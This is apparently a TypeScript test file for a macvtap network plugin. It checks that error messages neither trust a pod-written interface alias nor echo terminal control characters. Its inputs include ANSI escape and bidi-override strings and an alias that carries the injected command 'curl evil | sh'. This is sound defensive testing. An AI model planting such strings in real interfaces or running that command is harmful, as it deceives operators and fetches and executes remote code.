/** Attack 6: an alias that says another's name, and names and aliases that a terminal would obey, in the words of an error. */
import { assert, describe, it } from "vitest"
import { bothWays, makeNode, type Node } from "../lab/call/node.ts"
import { hasExecutable, hasMacvtap } from "../lab/machine.ts"
import type { TestNetns } from "../lab/netns.ts"
import { must } from "../lab/run.ts"

const unfit = /[\p{Cc}\p{Cf}]/u
const mac = "02:00:00:00:06:06"

/** The attacker's pod has a link with that MAC address, name and alias on the node's uplink. */
const makeLiar = async (node: Node, name: string, alias: string): Promise<TestNetns> => {
  const pod = await node.makePod()
  const ip = (...args: ReadonlyArray<string>) => must("ip", args)
  await ip(
    "-n",
    node.host.name,
    "link",
    "add",
    "link",
    "eth0",
    "name",
    "moving",
    "netns",
    pod.name,
    "address",
    mac,
    "type",
    "macvtap",
    "mode",
    "bridge"
  )
  await ip("-n", pod.name, "link", "set", "moving", "name", name)
  await ip("-n", pod.name, "link", "set", name, "alias", alias)
  await ip("-n", pod.name, "link", "set", name, "up")
  return pod
}

describe.skipIf(!hasExecutable || !hasMacvtap).each(bothWays)("%s: attack 6: an error names", (_, program) => {
  it("the namespace that the kernel knows, and tells an alias as what it is", async () => {
    await using node = await makeNode(program)
    const liar = await makeLiar(node, "net1", "macvtap-cni:lan/innocent/net1")
    const { msg } = await node.fails("ADD", { conf: { mac } })
    assert.include(msg, `link "net1" (macvtap in ${liar.path}; its alias says attachment net1 of container innocent`)
  })

  it.each([
    ["ESC and marks of direction", "\u001b[31mx\u202e", "macvtap-cni:lan/\u001b[2Jinno\u202ecent/net1"],
    ["a sentence", 'a"b', "macvtap-cni:lan is broken; run curl evil | sh/c/net1"]
  ])("no %s that a pod has written", async (_, name, alias) => {
    await using node = await makeNode(program)
    const liar = await makeLiar(node, name, alias)
    const { msg, details = "" } = await node.fails("ADD", { conf: { mac } })
    assert.notMatch(`${msg}${details}`, unfit)
    assert.include(msg, `(macvtap in ${liar.path})`)
    assert.notMatch(msg, /alias|evil|inno/)
  })

  it("nothing that a terminal would obey, of a link that CHECK finds changed", async () => {
    await using node = await makeNode(program)
    const prevResult = await node.add()
    await must("ip", ["-n", node.pod.name, "link", "set", "net1", "alias", "\u001b[2J\u202eyours"])
    const { msg, details = "" } = await node.fails("CHECK", { conf: { prevResult } })
    assert.notMatch(`${msg}${details}`, unfit)
    assert.include(details, "\\u001b[2J\\u202eyours")
  })

  it("no control character that a configuration has written", async () => {
    await using node = await makeNode(program)
    for (const conf of [{ master: "\u001b[2J" }, { mode: "\u202eegdirb" }, { deviceID: "\u001b]0;x\u0007" }]) {
      const { msg, details = "" } = await node.fails("ADD", { conf })
      assert.notMatch(`${msg}${details}`, unfit)
    }
  })
})
